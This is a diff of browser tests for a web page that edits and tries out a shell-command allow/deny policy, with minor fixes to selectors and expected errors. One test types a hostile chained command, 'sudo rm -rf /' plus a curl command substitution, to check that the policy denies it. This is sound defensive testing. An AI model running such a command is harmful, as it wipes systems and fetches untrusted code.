@@ -7,7 +7,7 @@ const rule = `  - id: no-echo
     command: {program: echo}
 `;
 
-test('policy by mouse: rules, a mistake at its line, saved, compared, in force', async ({ page, server, eq, ok, until }) => {
+test('policy by mouse: rules, a mistake at its line, saved, compared, in force', { errors: [/400/] }, async ({ page, server, eq, ok, until }) => {
     const before = await server.api('GET', '/policy');
     await page.goto(`${server.url}/policy`);
     await page.locator('[data-rule=no-root-wipe]').waitFor();
@@ -50,7 +50,7 @@ test('policy by keyboard: a command is tried, the answer names rule and piece', 
     await page.goto(`${server.url}/policy`);
     await page.locator('[data-rule=no-root-wipe]').waitFor();
     await page.keyboard.press('t');
-    await page.getByLabel('Command').focus();
+    await page.getByLabel('Command', { exact: true }).focus();
     await page.keyboard.type('make test; sudo rm -rf / && $(curl example.org)');
     await page.keyboard.press('Enter');
     const answer = page.locator('[data-answer=deny]');
@@ -70,7 +70,7 @@ test('policy: what past runs would have got from a draft', async ({ page, server
     await page.getByLabel('Policy as YAML').fill('version: 1\ndefault: deny\nrules: []\n');
     await page.getByRole('tab', { name: 'Past runs' }).click();
     await page.getByRole('button', { name: 'Replay' }).click();
-    await page.locator(`[data-run=${run.id}]`).getByText('echo hi').waitFor();
+    await page.locator(`[data-run=${run.id}]`).getByText('echo hi').first().waitFor();
     await page.locator(`[data-run=${run.id}]`).locator('[data-state=deny]').waitFor();
     await page.a11y();
 });
